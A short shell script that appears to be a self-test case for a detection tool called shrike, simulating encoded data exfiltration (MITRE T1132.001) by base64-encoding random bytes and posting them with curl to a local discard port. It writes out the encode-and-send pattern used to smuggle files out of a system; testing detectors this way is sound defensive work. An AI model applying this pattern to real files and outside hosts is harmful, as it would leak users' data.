#!/bin/sh
# rule: File sent by a tool
# technique: T1132.001
# case: a file made letters is part of what curl posts, to nobody
# needs: curl, base64

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
. "${0%/*}/../undo.inc"
outside
head -c 300 /dev/urandom > file
curl -s -m 1 -d "data=$(base64 -w0 file)" http://127.0.0.1:9/
true
